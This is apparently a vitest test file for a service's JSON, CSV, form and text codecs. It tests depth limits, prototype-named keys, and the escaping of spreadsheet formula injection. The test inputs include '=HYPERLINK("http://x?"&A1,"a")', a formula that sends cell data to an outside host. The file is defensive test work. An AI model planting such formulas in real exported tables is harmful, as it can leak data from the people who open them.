import { describe, expect, test } from 'vitest';
import { messageBudget } from './budget.ts';
import { decodeCsv, encodeCsv } from './csv.ts';
import { decodeForm, encodeForm } from './form.ts';
import { decodeJson, encodeJson } from './json.ts';
import { codecOf, formatOf, isFormat } from './registry.ts';
import { textOf } from './text.ts';

const undecodable = (message: string | RegExp) =>
  expect.objectContaining({
    code: 'body_undecodable',
    message: typeof message === 'string' ? message : expect.stringMatching(message),
  });
const failureOf = (work: () => unknown): unknown => {
  try {
    return work();
  } catch (error) {
    return error;
  }
};

const tooLarge = (message: string) => expect.objectContaining({ code: 'body_too_large', message });

describe('json', () => {
  test.each<[string, unknown]>([
    ['{"a":9007199254740991}', { a: 9007199254740991 }],
    [
      '{"a":9007199254740993,"b":-123456789012345678901234567890}',
      { a: 9007199254740993n, b: -123456789012345678901234567890n },
    ],
    ['[12345678901234567890.5, 1e100]', [12345678901234567000, 1e100]],
    ['{"text":"1234567890123456789"}', { text: '1234567890123456789' }],
    ['{"a":1,"a":2}', { a: 2 }],
    ['{"a":9007199254740993,"a":2}', { a: 2 }],
    ['null', null],
  ])('%s', (text, value) => {
    expect(decodeJson(text)).toEqual(value);
  });

  test('numbers that no number can hold are refused', () => {
    expect(failureOf(() => decodeJson('{"a":-1e400}'))).toEqual(
      undecodable('the body holds a number that is out of range'),
    );
  });

  test('what is no JSON is refused without repeating it', () => {
    const failure = failureOf(() => decodeJson('{"password":"hunter2",}')) as Error;
    expect(failure).toEqual(undecodable(/^the body is not valid JSON: /));
    expect(failure.message).not.toContain('hunter2');
  });

  test('S-64: depth and keys are bounded, also far beyond the stack', () => {
    const deep = '['.repeat(200_000) + ']'.repeat(200_000);
    expect(failureOf(() => decodeJson(deep))).toEqual(undecodable('the body is nested deeper than 100 levels'));
    expect(failureOf(() => decodeJson('{"a":{"b":1},"c":2}', { ...messageBudget, keys: 2 }))).toEqual(
      tooLarge('the body has more than 2 keys'),
    );
  });

  test('writes what JSON cannot hold by itself', () => {
    const value = {
      a: 1n,
      b: 2n ** 60n,
      c: new Uint8Array([1, 2]),
      d: new Date(0),
      e: undefined,
      f: Number.NaN,
      g: new Map([['x', 3n]]),
    };
    expect(JSON.parse(encodeJson(value))).toEqual({
      a: 1,
      b: '1152921504606846976',
      c: 'AQI=',
      d: '1970-01-01T00:00:00Z',
      f: null,
      g: { x: 3 },
    });
    expect([encodeJson(undefined), encodeJson([undefined])]).toEqual(['null', '[null]']);
  });
});

describe('csv', () => {
  const comma = { delimiter: ',' };

  test('fields in quotes hold delimiters, quotes and line ends (RFC 4180)', () => {
    expect(decodeCsv('a,b\r\n"x, ""y""\r\nz",1\r\n\r\n2,\r\n', comma)).toEqual({
      rows: [
        { a: 'x, "y"\r\nz', b: '1' },
        { a: '2', b: '' },
      ],
    });
    expect(decodeCsv('a\tb\n1\t2', { delimiter: '\t' })).toEqual({ a: '1', b: '2', rows: [{ a: '1', b: '2' }] });
    expect(decodeCsv('', comma)).toEqual({ rows: [] });
    expect(decodeCsv('a,b\n1', comma)).toEqual({ a: '1', rows: [{ a: '1' }] });
  });

  test.each([
    ['a\n"b', 'record 2 has a quote that is never closed'],
    ['a\n"b"c', 'record 2 has text after a closing quote'],
    ['a\n1,2', 'row 1 has 2 fields, the header 1'],
  ])('%j is refused', (text, message) => {
    expect(failureOf(() => decodeCsv(text, comma))).toEqual(undecodable(message));
  });

  test('what is written is read back the same', () => {
    const rows = [
      { name: 'a "b", c', note: 'line\nend' },
      { name: '', note: '\r' },
    ];
    expect(decodeCsv(encodeCsv(rows, comma, false), comma)).toEqual({ rows });
  });

  test('the header is the union of keys by first appearance; values are texts, structures JSON', () => {
    expect(
      encodeCsv(
        [
          { a: 1, b: null },
          { c: [1n], a: true },
        ],
        comma,
      ),
    ).toBe('a,b,c\r\n1,,\r\ntrue,,[1]\r\n');
    expect(encodeCsv({ rows: [{ a: 1 }] }, comma)).toBe('a\r\n1\r\n');
    expect(encodeCsv(['x', 2], comma)).toBe('value\r\nx\r\n2\r\n');
    expect(encodeCsv([], comma)).toBe('');
  });

  test('S-58: a column named like a prototype is a column', () => {
    const { rows } = decodeCsv('__proto__,a\nx,y\nx,y\n', comma) as { rows: object[] };
    expect([Object.getPrototypeOf(rows[0]), Object.keys(rows[0] as object)]).toEqual([null, ['__proto__', 'a']]);
  });
});

describe('S-55: formulas in tables', () => {
  const lines = (value: unknown, escapeFormulas?: boolean) =>
    encodeCsv(value, { delimiter: ',' }, escapeFormulas).split('\r\n').slice(1, -1);

  test.each([
    '=1+1',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\nx',
    '＝1',
    '-',
    '--1',
    '=HYPERLINK("http://x?"&A1,"a")',
  ])('the text %j is written as text, in cells, in lists and in the header', (text) => {
    const written = decodeCsv(encodeCsv([{ a: text }, { [text]: 1 }], { delimiter: ',' }), { delimiter: ',' });
    expect(written).toEqual({
      rows: [
        { a: `'${text}`, [`'${text}`]: '' },
        { a: '', [`'${text}`]: '1' },
      ],
    });
    expect(encodeCsv([text], { delimiter: '\t' }).split('\r\n')[0]).toBe('value');
  });

  test('numbers, negative decimals in texts and harmless texts stay as they are', () => {
    expect(lines([{ a: -1 }, { a: -5n }, { a: '-12.50' }, { a: 'a=b' }, { a: "'=1" }, { a: '' }])).toEqual([
      '-1',
      '-5',
      '-12.50',
      'a=b',
      "'=1",
      '',
    ]);
  });

  test('the configuration may leave them as they are', () => {
    expect(lines([{ a: '=1+1' }], false)).toEqual(['=1+1']);
  });

  test('a table that is out of proportion to its data is refused', () => {
    const rows = Array.from({ length: 2_000 }, (_, at) => ({ [`k${at}`]: 1 }));
    expect(failureOf(() => encodeCsv(rows, { delimiter: ',' }))).toMatchObject({ code: 'output_invalid' });
  });
});

test('forms repeat names for lists', () => {
  const fields = decodeForm('a=1&b=2+3&b=%C3%A9&__proto__=x&c');
  expect(Object.entries(fields)).toEqual([
    ['a', '1'],
    ['b', ['2 3', 'é']],
    ['__proto__', 'x'],
    ['c', ''],
  ]);
  expect(encodeForm({ a: 1, b: ['x', 'y z'], c: null, d: { e: 1 } })).toBe('a=1&b=x&b=y+z&d=%7B%22e%22%3A1%7D');
});

test('text of bytes in the character set that was named', () => {
  expect(textOf(Buffer.from('\ufeffé'))).toBe('é');
  expect(textOf(Buffer.from([0xe9]), 'iso-8859-1')).toBe('é');
  expect(failureOf(() => textOf(Buffer.from([0xff])))).toEqual(undecodable('the body is not valid UTF-8'));
  expect(failureOf(() => textOf(Buffer.from('x'), 'klingon'))).toMatchObject({ code: 'media_type_unsupported' });
});

test('formats by name and by media type', async () => {
  expect(
    ['application/json', 'application/problem+json', 'text/xml', 'image/svg+xml', 'text/csv', 'text/plain'].map(
      formatOf,
    ),
  ).toEqual(['json', 'json', 'xml', 'xml', 'csv', undefined]);
  expect(['json', 'xml', 'csv', 'tsv', 'form', 'yaml'].map(isFormat)).toEqual([true, true, true, true, false, false]);
  expect((await codecOf('tsv')).encode([{ a: 1, b: 2 }])).toBe('a\tb\r\n1\t2\r\n');
  expect((await codecOf('xml')).contentType).toBe('application/xml; charset=utf-8');
});
